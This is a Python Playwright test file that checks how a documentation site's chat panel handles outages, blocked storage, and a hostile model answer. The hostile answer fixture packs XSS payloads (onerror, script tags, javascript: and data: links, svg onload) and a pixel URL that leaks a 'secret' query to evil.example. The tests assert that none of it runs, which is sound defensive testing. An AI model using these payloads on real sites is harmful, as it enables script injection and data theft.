"""What goes wrong around the panel: a server that is away, storage that is blocked, an answer that means harm."""

from playwright.sync_api import expect

from tests.browser.model import Model
from tests.browser.panel import Panel

QUESTION = "How long does a session last?"

HOSTILE = """\
Look:

<img src=x onerror="window.harmed = 1"><script>window.harmed = 1</script>
<iframe src="http://evil.example/frame"></iframe><a href="javascript:window.harmed = 1">raw</a>

![pixel](http://evil.example/pixel.png?q=secret) ![data](data:image/svg+xml,<svg/onload=window.harmed=1>)

[press](javascript:window.harmed=1) [data](data:text/html,<script>window.harmed=1</script>) \
[out](http://evil.example/page) <http://evil.example/auto>

That was all. [[30 days after it was last seen]]
"""


def test_a_hostile_answer_runs_nothing_and_asks_nobody(panel: Panel, model: Model) -> None:
    model.says(*(HOSTILE[at : at + 7] for at in range(0, HOSTILE.index("[["), 7)), HOSTILE[HOSTILE.index("[[") :])
    panel.open()
    panel.ask(QUESTION)
    panel.shows("That was all.")
    for link in panel.answer.get_by_text("press").all() + panel.answer.get_by_text("raw").all():
        link.click()
    panel.answer.hover()
    panel.page.wait_for_load_state("networkidle")
    assert panel.page.evaluate("window.harmed") is None
    assert panel.answer.locator("img, script, iframe, [onerror], [onload]").count() == 0
    hrefs = panel.answer.locator("a").evaluate_all("links => links.map((link) => link.getAttribute('href') ?? '')")
    assert [href for href in hrefs if href.startswith(("javascript:", "data:"))] == []
    ours = (panel.stack.api, panel.stack.site)
    assert [request.url for request in panel.sent if not request.url.startswith((*ours, "data:"))] == []
    assert [href for href in hrefs if "evil.example" in href] == []  # the server takes such links out
    expect(panel.answer).to_contain_text("out")


def test_a_server_that_is_away_is_said_in_words_and_asked_again(panel: Panel) -> None:
    panel.open()
    panel.lose_the_server()
    panel.ask(QUESTION)
    expect(panel.alert).to_be_visible(timeout=20_000)
    said = panel.alert.inner_text()
    assert not [word for word in ("Error", "fetch", "http", " at ", "undefined", "null") if word in said], said
    panel.stack.wire.refusing = False
    panel.button("Try again").click()
    panel.shows("A session lasts 30 days.")
    expect(panel.alert).to_have_count(0)


def test_blocked_storage_keeps_nothing_and_still_answers(panel: Panel) -> None:
    panel.page.add_init_script("""
        for (const name of ['localStorage', 'sessionStorage'])
            Object.defineProperty(window, name, {get() { throw new DOMException('denied', 'SecurityError'); }});
    """)
    panel.open()
    panel.ask(QUESTION)
    panel.shows("A session lasts 30 days.")
    panel.ask("How long is a session kept?")
    expect(panel.answers).to_have_count(2)
    panel.shows("A session lasts 30 days.")
    assert len(panel.bodies("/sessions")) == 1


def test_a_model_that_is_away_is_told_of(panel: Panel, model: Model) -> None:
    model.says(fault="status")
    panel.open()
    panel.ask(QUESTION)
    panel.shows("30 days after it was last seen")
    expect(panel.answer).to_contain_text("The language model could not be reached")


def test_nothing_is_shown_nor_broken_without_scripts(panel: Panel) -> None:
    context = panel.stack.browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(panel.stack.site + "docs/api/sessions/")
    expect(page.get_by_role("heading", level=1, name="Sessions")).to_be_visible()
    expect(page.get_by_role("button", name="Ask the docs")).to_have_count(0)
    context.close()
